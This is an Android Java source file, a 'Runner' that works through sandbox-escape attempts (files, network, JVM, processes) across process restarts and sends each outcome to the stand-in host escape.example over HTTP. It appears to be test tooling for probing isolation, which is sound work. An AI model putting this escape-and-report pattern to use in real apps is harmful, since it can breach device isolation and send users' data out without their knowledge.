package org.escape.example;

import android.content.Context;
import android.content.SharedPreferences;
import android.net.Uri;
import android.util.Log;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;

/** Runs the attempts in order, one process life after the other. */
final class Runner {
    private static final AtomicBoolean RUNNING = new AtomicBoolean();
    private static final int MAX_OUTCOME = 200;

    private Runner() {}

    static void start(Context context) {
        Context application = context.getApplicationContext();
        if (RUNNING.compareAndSet(false, true)) {
            new Thread(() -> run(application), "escape").start();
        }
    }

    private static void run(Context context) {
        List<Attempt> attempts = new ArrayList<>();
        attempts.addAll(Files.attempts(context));
        attempts.addAll(Network.attempts());
        attempts.addAll(Jvm.attempts(context));
        attempts.addAll(Processes.attempts());
        attempts.addAll(Ends.attempts());
        SharedPreferences progress = context.getSharedPreferences("progress", 0);
        for (int next = progress.getInt("next", 0); next < attempts.size(); next++) {
            progress.edit().putInt("next", next + 1).commit();
            Attempt attempt = attempts.get(next);
            report(attempt.name, "trying");
            report(attempt.name, outcome(attempt));
        }
        RUNNING.set(false);
    }

    private static String outcome(Attempt attempt) {
        try {
            return attempt.body.call();
        } catch (Throwable refused) {
            return "refused: " + refused;
        }
    }

    private static void report(String name, String outcome) {
        String text = outcome.length() > MAX_OUTCOME ? outcome.substring(0, MAX_OUTCOME) : outcome;
        String where = "http://escape.example/" + name + "?outcome=" + Uri.encode(text);
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL(where).openConnection();
            connection.getResponseCode();
            connection.disconnect();
        } catch (IOException failure) {
            Log.w("Escape", name + ": " + text, failure);
        }
    }
}
